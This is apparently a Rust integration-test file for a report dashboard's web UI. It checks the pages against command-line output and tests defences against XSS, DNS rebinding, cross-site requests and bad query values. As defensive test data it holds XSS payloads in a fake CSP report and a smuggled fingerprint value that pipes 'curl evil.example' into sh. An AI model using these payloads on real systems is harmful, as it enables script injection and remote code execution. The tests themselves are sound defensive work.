//! `lookout ui` in a real browser: headless Chromium renders the pages over a store filled
//! with the conformance fixtures (reports real browsers and other projects sent), and what the
//! page says must equal what `lookout top` and `lookout query` say, over either store.
//!
//! Needs Debian's `chromium` (`scripts/setup-test-tools` installs it); fails loudly without it.
//! The guards (the names the page answers for, bounded pages, checked query values) are
//! checked over plain sockets, with the headers a browser elsewhere would send.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::Stdio;

use lookout::report::{Options, Timestamp};
use lookout::store::ReportStore;
use lookout::store::embedded::EmbeddedStore;

use crate::emulator;
use crate::support::{
    Process, decode_json, fixture_reports, headless_chromium, meta, run_lookout, spawn_lookout,
};

/// Starts `lookout ui` with `args` on a free port; returns the process and its base URL.
fn spawn_ui(args: &[&str]) -> (Process, String) {
    spawn_lookout("ui", args, "lookout ui: ")
}

/// The DOM Chromium built from `url`, serialized.
fn dom(url: &str) -> String {
    let profile = tempfile::tempdir().unwrap();
    let out = headless_chromium(profile.path())
        .arg("--dump-dom")
        .arg(url)
        .output()
        .expect("chromium runs");
    assert!(out.status.success(), "chromium --dump-dom {url}");
    String::from_utf8(out.stdout).unwrap()
}

/// A screenshot of `url`, kept as a test artifact under `target/test-artifacts/`.
fn screenshot(url: &str, name: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-artifacts");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(name);
    let _ = std::fs::remove_file(&path);
    let profile = tempfile::tempdir().unwrap();
    let status = headless_chromium(profile.path())
        .args(["--hide-scrollbars", "--window-size=1280,1000"])
        .arg(format!("--screenshot={}", path.display()))
        .arg(url)
        .stdout(Stdio::null())
        .status()
        .expect("chromium runs");
    assert!(status.success() && path.metadata().map(|m| m.len() > 10_000).unwrap_or(false));
    path
}

/// The value of attribute `name` of each element of `dom` whose start tag begins with `start`
/// (our own markup; values escaped).
fn attrs(dom: &str, start: &str, name: &str) -> Vec<String> {
    dom.split(start)
        .skip(1)
        .map(|rest| {
            let tag = format!("{start}{}", &rest[..rest.find('>').unwrap()]);
            let from = tag.find(&format!(" {name}=\"")).unwrap() + name.len() + 3;
            let to = from + tag[from..].find('"').unwrap();
            tag[from..to].replace("&amp;", "&")
        })
        .collect()
}

/// (type, fingerprint, count) of each problem row, in page order.
fn rows(dom: &str) -> Vec<(String, String, u64)> {
    let start = "<tr data-fingerprint=";
    let fps = attrs(dom, start, "data-fingerprint");
    let types = attrs(dom, start, "data-type");
    let counts = attrs(dom, start, "data-count");
    fps.into_iter()
        .zip(types)
        .zip(counts)
        .map(|((f, t), n)| (t, f, n.parse().unwrap()))
        .collect()
}

/// (type, fingerprint, count) of `lookout top --json` with `args`, in its order.
fn top(args: &[&str]) -> Vec<(String, String, u64)> {
    let (ok, out, err) = run_lookout(&[&["top", "--json", "--limit", "100000"][..], args].concat());
    assert!(ok, "{err}");
    out.lines()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            (
                v["type"].as_str().unwrap().to_owned(),
                v["fingerprint"].as_str().unwrap().to_owned(),
                v["count"].as_u64().unwrap(),
            )
        })
        .collect()
}

/// The conformance fixtures' reports, and a hostile one for `hostile.example`.
fn reports() -> Vec<lookout::report::Report> {
    let mut reports = fixture_reports();
    let hostile = r#"[{"type":"csp-violation","age":5,"url":"https://hostile.example/<script>document.title='pwned'</script>\u001b[31m\u0007","user_agent":"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36","body":{"effectiveDirective":"script-src-elem","blockedURL":"javascript:alert('pwned')","documentURL":"https://hostile.example/<img src=x onerror=alert(1)>","sourceFile":"https://hostile.example/\u001b[31m\u0007bell","disposition":"enforce","originalPolicy":"script-src 'self'\"><script>alert(2)</script>","statusCode":200}}]"#;
    let request = meta("hostile.example", Timestamp::now());
    let batch = lookout::report::decode(hostile.as_bytes(), &request, &Options::default()).unwrap();
    assert_eq!(batch.reports.len(), 1, "the hostile report is accepted");
    reports.extend(batch.reports);
    reports
}

fn sites(reports: &[lookout::report::Report]) -> BTreeSet<String> {
    reports.iter().map(|r| r.site.clone()).collect()
}

/// Every check of the page against the command line, over the store `store_args` name.
fn the_page_agrees_with_the_command_line(
    base: &str,
    store_args: &[&str],
    sites: &BTreeSet<String>,
) {
    assert!(sites.len() >= 3, "{sites:?}");
    // The front page, without a site: every site filled, each with the count top gives.
    let front = dom(&format!("{base}/?window=30d"));
    let listed: BTreeSet<String> = attrs(&front, "<tr data-site=", "data-site")
        .into_iter()
        .collect();
    assert_eq!(
        &listed, sites,
        "the front page lists every site with reports"
    );
    let counts = attrs(&front, "<tr data-site=", "data-count");
    for (site, count) in attrs(&front, "<tr data-site=", "data-site")
        .iter()
        .zip(counts)
    {
        let args = [&["--site", site.as_str(), "--since", "30d"][..], store_args].concat();
        let total: u64 = top(&args).iter().map(|r| r.2).sum();
        assert_eq!(count.parse::<u64>().unwrap(), total, "{site}");
    }
    let mut problems_seen = 0;
    for site in sites {
        let args = [&["--site", site.as_str(), "--since", "30d"][..], store_args].concat();
        let expected = top(&args);
        let page = dom(&format!("{base}/?site={site}&window=30d"));
        assert_eq!(rows(&page), expected, "{site}: the page ranks as top does");
        let total: u64 = expected.iter().map(|r| r.2).sum();
        assert!(
            page.contains(&format!(r#"<span id="total-reports">{total}</span>"#)),
            "{site}: total {total}"
        );
        problems_seen += expected.len();
    }
    assert!(problems_seen >= 20, "{problems_seen} problems");

    // Filters, kept in the URL: the type, and a browser family (not a `top` option: the page
    // keeps the problems that family sent, which `top --json` lists in `browsers`).
    let site = sites
        .iter()
        .max_by_key(|s| {
            top(&[&["--site", s.as_str(), "--since", "30d"][..], store_args].concat()).len()
        })
        .unwrap();
    let args = [&["--site", site.as_str(), "--since", "30d"][..], store_args].concat();
    let all = top(&args);
    let some_type = all[0].0.clone();
    let by_type = dom(&format!("{base}/?site={site}&window=30d&type={some_type}"));
    let expected = top(&[&args[..], &["--type", some_type.as_str()]].concat());
    assert_eq!(rows(&by_type), expected);
    assert!(
        expected.len() < all.len(),
        "the type filter changes the list"
    );
    let (ok, out, _) =
        run_lookout(&[&["top", "--json", "--limit", "100000"][..], &args[..]].concat());
    assert!(ok);
    let listed: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let having = |field: &str, wanted: &dyn Fn(&str) -> bool| -> Vec<String> {
        listed
            .iter()
            .filter(|v| {
                v[field]
                    .as_array()
                    .is_some_and(|a| a.iter().any(|x| wanted(x.as_str().unwrap())))
            })
            .map(|v| v["fingerprint"].as_str().unwrap().to_owned())
            .collect()
    };
    for (query, expected) in [
        (
            "browser=Firefox",
            having("browsers", &|b| b.starts_with("Firefox ")),
        ),
        (
            "disposition=enforce",
            having("dispositions", &|d| d == "enforce"),
        ),
        (
            "disposition=report",
            having("dispositions", &|d| d == "report"),
        ),
    ] {
        let page = dom(&format!("{base}/?site={site}&window=30d&{query}"));
        let shown: Vec<String> = rows(&page).into_iter().map(|r| r.1).collect();
        assert_eq!(shown, expected, "{query}");
        assert!(
            !expected.is_empty() && expected.len() < all.len(),
            "{query} changes the list: {} of {}",
            expected.len(),
            all.len()
        );
    }

    // One problem opened: its reports, as `lookout query --fingerprint` lists them.
    let (t, fp, count) = all[0].clone();
    let opened = dom(&format!(
        "{base}/problem?site={site}&window=30d&type={t}&fingerprint={fp}"
    ));
    assert!(opened.contains(&format!(r#"<span id="problem-count">{count}</span>"#)));
    let (ok, out, err) = run_lookout(
        &[
            &[
                "query",
                "--json",
                "--type",
                t.as_str(),
                "--fingerprint",
                fp.as_str(),
            ][..],
            &args[..],
        ]
        .concat(),
    );
    assert!(ok, "{err}");
    let ids: Vec<String> = out
        .lines()
        .map(|l| {
            serde_json::from_str::<serde_json::Value>(l).unwrap()["id"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .take(lookout::ui::page::PAGE_SIZE)
        .collect();
    assert!(!ids.is_empty());
    assert_eq!(attrs(&opened, "<tr data-id=", "data-id"), ids);
    assert!(
        opened.contains("lookout query --site"),
        "the command-line equivalent"
    );
}

fn the_hostile_report_renders_as_text(base: &str) {
    for path in [
        "/?site=hostile.example&window=24h",
        "/policy?site=hostile.example&window=24h",
    ] {
        let page = dom(&format!("{base}{path}"));
        assert!(
            !page.contains("<script"),
            "{path}: no script element from report data"
        );
        assert!(
            !page.contains("<img"),
            "{path}: no element from report data"
        );
        assert!(!page.contains("pwned</title>") && page.contains("<title>hostile.example"));
        assert!(
            !page.contains('\u{1b}') && !page.contains('\u{7}'),
            "{path}: control characters"
        );
    }
    let page = dom(&format!("{base}/?site=hostile.example&window=24h"));
    let (t, fp, _) = rows(&page)[0].clone();
    let opened = dom(&format!(
        "{base}/problem?site=hostile.example&window=24h&type={t}&fingerprint={fp}"
    ));
    let policy = dom(&format!("{base}/policy?site=hostile.example&window=24h"));
    assert!(
        policy.contains("id=\"policy\""),
        "a suggestion from the owner's --policy"
    );
    assert!(
        opened.contains("&lt;script&gt;document.title="),
        "the URL shown as text"
    );
    assert!(
        opened.contains("javascript:alert("),
        "the blocked URL shown as text"
    );
    assert!(!opened.contains("href=\"javascript:"), "never a link");
    assert!(!opened.contains("<script") && !opened.contains("<img"));
    assert!(
        !opened.contains('\u{1b}') && opened.contains('\u{241b}'),
        "escape shown as its picture"
    );
}

/// The hang of the crash fixture (`chromium-crash-unresponsive-stack-reconstructed.json`: two
/// pages, one problem), opened: the key-values its pages set, counted, and its stack, as text.
fn a_crash_problem_shows_its_key_values_and_stack(base: &str) {
    let group = "crash unresponsive layoutPass@https://app.example/static/editor.js reflow@https://app.example/static/editor.js HTMLDocument.<anonymous>@https://app.example/static/editor.js";
    let fp = lookout::report::fingerprint(group);
    let opened = dom(&format!(
        "{base}/problem?site=app.example&window=30d&type=crash&fingerprint={fp}"
    ));
    assert!(
        opened.contains(r#"<span id="problem-count">2</span>"#),
        "{opened}"
    );
    for (key, value) in [
        ("doc_size", "large"),
        ("route", "/editor"),
        ("route", "/preview"),
    ] {
        assert!(
            opened.contains(&format!(
                r#"<tr><td class="problem">{key}</td><td class="problem">{value}</td><td class="n">1</td></tr>"#
            )),
            "{key} = {value}: {opened}"
        );
    }
    assert!(
        opened.contains(r#"<pre id="crash-stack">"#)
            && opened.contains("at layoutPass (https://app.example/static/editor.js?v="),
        "{opened}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_dashboard_shows_what_top_and_query_say_over_the_embedded_store() {
    let dir = tempfile::tempdir().unwrap();
    let reports = reports();
    {
        let store = EmbeddedStore::open(dir.path()).unwrap();
        store.put(&reports).await.unwrap();
    }
    let data = dir.path().to_str().unwrap();
    let (_ui, base) = spawn_ui(&["--data", data, "--policy", "default-src 'self'"]);
    the_page_agrees_with_the_command_line(&base, &["--data", data], &sites(&reports));
    the_hostile_report_renders_as_text(&base);
    a_crash_problem_shows_its_key_values_and_stack(&base);
    // The busiest site, as the README shows it (docs/dashboard.png is this screenshot).
    let site = sites(&reports)
        .into_iter()
        .max_by_key(|s| reports.iter().filter(|r| &r.site == s).count())
        .unwrap();
    let shot = screenshot(&format!("{base}/?site={site}&window=30d"), "dashboard.png");
    eprintln!("screenshot: {}", shot.display());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_dashboard_shows_what_top_and_query_say_over_a_table() {
    let (store, _client, table) = emulator::store_with(2).await;
    let reports = reports();
    store.put(&reports).await.unwrap();
    let event = emulator::stream_event(&table).await;
    lookout::lambda::handle_stream(&store, None, &event)
        .await
        .unwrap();
    let url = emulator::emulator().url.clone();
    let args = [
        "--table",
        table.as_str(),
        "--endpoint-url",
        url.as_str(),
        "--write-shards",
        "2",
    ];
    let mut ui_args = args.to_vec();
    ui_args.extend(["--policy", "default-src 'self'"]);
    let (_ui, base) = spawn_ui(&ui_args);
    the_page_agrees_with_the_command_line(&base, &args, &sites(&reports));
    the_hostile_report_renders_as_text(&base);
    a_crash_problem_shows_its_key_values_and_stack(&base);
}

/// One GET to the page at `base` over a plain socket, with exactly `headers` (`Host`
/// included: a browser that reached the page by another name sends that name); the status and
/// the body. A connection closed without an answer (a handler that panicked) is status 0.
fn get(base: &str, path: &str, headers: &[(&str, &str)]) -> (u16, String) {
    let mut head = format!("GET {path} HTTP/1.1\r\nConnection: close\r\n");
    for (k, v) in headers {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    crate::support::raw_exchange(
        base.trim_start_matches("http://"),
        &head,
        b"",
        std::time::Duration::from_secs(30),
    )
}

/// One GET of `path` from the page at `base`, by its own address, over a plain socket: the
/// status, the headers (names lowercased) and the body.
fn get_with_headers(base: &str, path: &str) -> (u16, BTreeMap<String, String>, String) {
    use std::io::{Read, Write};
    let host = base.trim_start_matches("http://");
    let mut stream = std::net::TcpStream::connect(host).unwrap();
    stream
        .set_read_timeout(Some(std::time::Duration::from_secs(30)))
        .unwrap();
    write!(
        stream,
        "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut response = Vec::new();
    stream.read_to_end(&mut response).unwrap();
    let text = String::from_utf8(response).unwrap();
    let (head, body) = text.split_once("\r\n\r\n").unwrap();
    let mut lines = head.lines();
    let status = lines
        .next()
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let headers = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_owned()))
        .collect();
    (status, headers, body.to_owned())
}

/// The port of `base` (`http://127.0.0.1:PORT`).
fn port_of(base: &str) -> &str {
    base.rsplit(':').next().unwrap()
}

/// Stores `n` problems of `site` in the embedded store at `dir`: one deprecation report each,
/// named `{prefix}0000`, `{prefix}0001`, ...
async fn store_problems(dir: &Path, site: &str, prefix: &str, n: usize) {
    let now = Timestamp::now();
    let reports: Vec<lookout::report::Report> = (0..n)
        .flat_map(|i| {
            let body = serde_json::json!([{
                "type": "deprecation",
                "age": 0,
                "url": format!("https://{site}/"),
                "body": {"id": format!("{prefix}{i:04}"), "message": "a deprecated feature"}
            }]);
            decode_json(&body, site, now)
        })
        .collect();
    assert_eq!(reports.len(), n);
    let store = EmbeddedStore::open(dir).unwrap();
    store.put(&reports).await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_dashboard_answers_only_the_names_it_serves() {
    let dir = tempfile::tempdir().unwrap();
    store_problems(dir.path(), "rebind.example", "SiteSecret", 3).await;
    let (_ui, base) = spawn_ui(&["--data", dir.path().to_str().unwrap()]);
    let port = port_of(&base);
    let site = "/?site=rebind.example";

    // A page on attacker.example that pointed its name at 127.0.0.1 (DNS rebinding): every
    // view, the missing one too, is refused and tells which flag admits a name.
    for path in [
        site,
        "/problem?site=rebind.example&type=deprecation&fingerprint=0123456789abcdef",
        "/policy?site=rebind.example",
        "/nowhere",
    ] {
        let host = format!("attacker.example:{port}");
        let (status, body) = get(&base, path, &[("Host", host.as_str())]);
        assert_eq!(status, 421, "{path}: {body}");
        assert!(body.contains("--allowed-host"), "{path}: {body}");
        assert!(
            !body.contains("SiteSecret") && !body.contains("data-fingerprint"),
            "{path}: none of the site's data"
        );
    }
    for host in [
        format!("localhost:{port}"),
        format!("127.0.0.1:{port}"),
        format!("[::1]:{port}"),
        format!("LOCALHOST:{port}"),
    ] {
        let (status, body) = get(&base, site, &[("Host", host.as_str())]);
        assert_eq!(status, 200, "{host}: {body}");
        assert_eq!(rows(&body).len(), 3, "{host}");
        assert!(body.contains("SiteSecret0000"), "{host}");
    }
    for host in [
        "localhost:1".to_owned(),
        "localhost".to_owned(),
        format!("evil@localhost:{port}"),
        format!("localhost:{port}.attacker.example"),
    ] {
        let (status, body) = get(&base, site, &[("Host", host.as_str())]);
        assert_eq!(status, 421, "{host}");
        assert!(!body.contains("SiteSecret"), "{host}");
    }

    // Sent by another site: refused even to a name the page serves.
    let local = format!("localhost:{port}");
    let foreign = format!("http://attacker.example:{port}");
    for from in [
        ("Sec-Fetch-Site", "cross-site"),
        ("Origin", foreign.as_str()),
    ] {
        let (status, body) = get(&base, site, &[("Host", local.as_str()), from]);
        assert_eq!(status, 403, "{from:?}: {body}");
        assert!(!body.contains("SiteSecret"), "{from:?}");
    }
    let own = format!("http://localhost:{port}");
    for from in [
        ("Origin", own.as_str()),
        ("Sec-Fetch-Site", "same-origin"),
        ("Sec-Fetch-Site", "none"),
    ] {
        let (status, _) = get(&base, site, &[("Host", local.as_str()), from]);
        assert_eq!(status, 200, "{from:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_name_given_with_allowed_host_is_admitted() {
    let dir = tempfile::tempdir().unwrap();
    store_problems(dir.path(), "named.example", "Named", 2).await;
    let (_ui, base) = spawn_ui(&[
        "--data",
        dir.path().to_str().unwrap(),
        "--allowed-host",
        "dash.example",
        "--allowed-host",
        "other.example:8443",
    ]);
    let port = port_of(&base);
    let site = "/?site=named.example";
    for host in [
        format!("dash.example:{port}"),
        "dash.example".to_owned(),
        "other.example:8443".to_owned(),
    ] {
        let (status, body) = get(&base, site, &[("Host", host.as_str())]);
        assert_eq!(status, 200, "{host}: {body}");
        assert_eq!(rows(&body).len(), 2, "{host}");
    }
    let origin = format!("http://dash.example:{port}");
    let host = format!("dash.example:{port}");
    let (status, _) = get(
        &base,
        site,
        &[("Host", host.as_str()), ("Origin", origin.as_str())],
    );
    assert_eq!(status, 200, "the page's own origin");
    for host in [
        format!("other.example:{port}"),
        format!("attacker.example:{port}"),
    ] {
        let (status, body) = get(&base, site, &[("Host", host.as_str())]);
        assert_eq!(status, 421, "{host}");
        assert!(!body.contains("Named0000"), "{host}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pages_past_the_bound_and_fingerprints_not_hex_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    // A store path a shell would split: the page's command lines quote it.
    let data = dir.path().join("lookout data");
    store_problems(&data, "pages.example", "Paged", 1).await;
    let data = data.to_str().unwrap();
    let (_ui, base) = spawn_ui(&["--data", data]);
    let host = base.trim_start_matches("http://").to_owned();
    let headers = [("Host", host.as_str())];
    let (status, listed) = get(&base, "/?site=pages.example", &headers);
    assert_eq!(status, 200, "{listed}");
    let (t, fp, _) = rows(&listed)[0].clone();
    let problem = format!("/problem?site=pages.example&type={t}&fingerprint={fp}");
    let (status, opened) = get(&base, &problem, &headers);
    assert_eq!(status, 200, "{opened}");
    assert_eq!(attrs(&opened, "<tr data-id=", "data-id").len(), 1);
    assert!(
        opened.contains(&format!(
            "--fingerprint {fp} --since 7d --limit 25 --json --data &#39;{data}&#39;"
        )),
        "the command line, its values quoted: {opened}"
    );

    for page in [
        "100000000000",
        "18446744073709551615",
        "18446744073709551616",
        "401",
        "-1",
        "x",
    ] {
        for path in [
            format!("{problem}&page={page}"),
            format!("/?site=pages.example&page={page}"),
        ] {
            let (status, body) = get(&base, &path, &headers);
            assert_eq!(status, 400, "{path}: {body}");
            assert!(body.contains("page is a number from 0 to 400"), "{path}");
        }
    }
    let (status, body) = get(&base, &format!("{problem}&page=400"), &headers);
    assert_eq!(status, 200, "the last page offered, empty: {body}");

    for fingerprint in [
        "0123456789abcdef%3Bcurl%20-s%20evil.example%7Csh",
        "0123456789abcdef;curl",
        "0123456789ABCDEF",
        "0123456789abcde",
        "0123456789abcdef0",
    ] {
        let path = format!("/problem?site=pages.example&type={t}&fingerprint={fingerprint}");
        let (status, body) = get(&base, &path, &headers);
        assert_eq!(status, 400, "{path}: {body}");
        assert!(body.contains("16 lowercase hex digits"), "{path}");
        assert!(!body.contains("curl"), "{path}: never shown as a command");
    }
    // Still serving.
    let (status, _) = get(&base, &problem, &headers);
    assert_eq!(status, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_problems_come_a_hundred_a_page() {
    let dir = tempfile::tempdir().unwrap();
    store_problems(dir.path(), "many.example", "Feature", 250).await;
    let data = dir.path().to_str().unwrap();
    let (_ui, base) = spawn_ui(&["--data", data]);
    let host = base.trim_start_matches("http://").to_owned();
    let headers = [("Host", host.as_str())];

    let (status, first) = get(&base, "/?site=many.example", &headers);
    assert_eq!(status, 200);
    assert_eq!(rows(&first).len(), 100);
    assert_eq!(first.matches(r#"<svg class="spark""#).count(), 100);
    assert!(first.contains(r#"<span id="total-problems">250</span>"#));
    assert!(!first.contains(r#"id="previous""#));
    let next = attrs(&first, r#"<a id="next""#, "href");
    assert_eq!(next, ["/?site=many.example&window=7d&page=1"]);

    let (status, second) = get(&base, &next[0], &headers);
    assert_eq!(status, 200);
    assert_eq!(rows(&second).len(), 100);
    assert!(second.contains(r#"<a id="previous""#) && second.contains(r#"<a id="next""#));
    let (status, third) = get(&base, "/?site=many.example&window=7d&page=2", &headers);
    assert_eq!(status, 200);
    assert_eq!(rows(&third).len(), 50);
    assert!(!third.contains(r#"id="next""#));

    let shown: BTreeSet<String> = [&first, &second, &third]
        .into_iter()
        .flat_map(|page| rows(page).into_iter().map(|r| r.1))
        .collect();
    let listed: BTreeSet<String> =
        top(&["--site", "many.example", "--since", "7d", "--data", data])
            .into_iter()
            .map(|r| r.1)
            .collect();
    assert_eq!(shown.len(), 250);
    assert_eq!(
        shown, listed,
        "the three pages are every problem, each once"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_scripts_view_lists_the_scripts_csp_hash_reports_name() {
    const HASH: &str = "sha256-kXpLomJzl7/XaYNWb9qqrD03SIV3MeQ858OKe5bGOks=";
    const CHROME: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36";
    let report = |page: &str, script: &str| {
        serde_json::json!({
            "type": "csp-hash",
            "age": 0,
            "url": format!("https://shop.example/{page}"),
            "user_agent": CHROME,
            "body": {
                "documentURL": format!("https://shop.example/{page}"),
                "subresourceURL": script,
                "hash": HASH,
                "type": "subresource",
                "destination": "script"
            }
        })
    };
    let body = serde_json::json!([
        report("checkout", "https://shop.example/s/widget.js?v=3"),
        report("cart", "https://shop.example/s/widget.js?v=3"),
        report(
            "checkout",
            "https://shop.example/s/<script>alert(1)</script>.js?v=1"
        ),
    ]);
    let reports = decode_json(&body, "shop.example", Timestamp::now());
    assert_eq!(reports.len(), 3);
    let dir = tempfile::tempdir().unwrap();
    {
        let store = EmbeddedStore::open(dir.path()).unwrap();
        store.put(&reports).await.unwrap();
    }
    let data = dir.path().to_str().unwrap();
    // One script authorized in the terminal: the page shows it, and never writes one.
    let (ok, _, err) = run_lookout(&[
        "scripts",
        "authorize",
        "--site",
        "shop.example",
        "https://shop.example/s/widget.js",
        "--reason",
        "the vendor's <b>widget</b>",
        "--by",
        "ops",
        "--data",
        data,
    ]);
    assert!(ok, "authorize: {err}");
    let (_ui, base) = spawn_ui(&["--data", data]);

    let (status, headers, page) = get_with_headers(&base, "/scripts?site=shop.example&window=24h");
    assert_eq!(status, 200, "{page}");
    assert_eq!(headers["content-type"], "text/html; charset=utf-8");
    assert_eq!(
        headers["content-security-policy"],
        "default-src 'none'; style-src 'unsafe-inline'; form-action 'self'; frame-ancestors 'none'"
    );
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(headers["referrer-policy"], "no-referrer");
    assert_eq!(headers["cache-control"], "no-store");

    assert!(
        page.contains(
            r#"<tr data-url="https://shop.example/s/widget.js" data-status="authorized">"#
        ),
        "{page}"
    );
    assert!(
        page.contains(&format!("<code>{HASH}</code> (authorized) <a href=")),
        "its content, the one authorized: {page}"
    );
    assert!(page.contains("the vendor&#39;s &lt;b&gt;widget&lt;/b&gt;"));
    assert!(
        page.contains(
            "<div>https://shop.example/cart</div><div>https://shop.example/checkout</div>"
        )
    );
    assert!(page.contains("<code>csp-hash</code>") && page.contains("lookout scripts authorize"));
    assert!(
        page.contains(
            r#"<tr data-url="https://shop.example/s/&lt;script&gt;alert(1)&lt;/script&gt;.js" data-status="unreviewed">"#
        ),
        "the hostile URL, as text: {page}"
    );
    assert!(!page.contains("<script") && !page.contains("</script") && !page.contains("<b>"));
    assert!(!page.contains("authorizations-unread"), "{page}");

    // Linked from the problems, with the site and the window.
    let (status, _, problems) = get_with_headers(&base, "/?site=shop.example&window=24h");
    assert_eq!(status, 200);
    assert!(
        problems.contains(r#"<a href="/scripts?site=shop.example&amp;window=24h">Scripts</a>"#)
    );
    // No site named, or another without scripts.
    let (status, _, _) = get_with_headers(&base, "/scripts");
    assert_eq!(status, 400);
    let (status, _, empty) = get_with_headers(&base, "/scripts?site=other.example");
    assert_eq!(status, 200);
    assert!(empty.contains(r#"<p id="no-scripts">"#) && empty.contains("--script-hashes"));
}
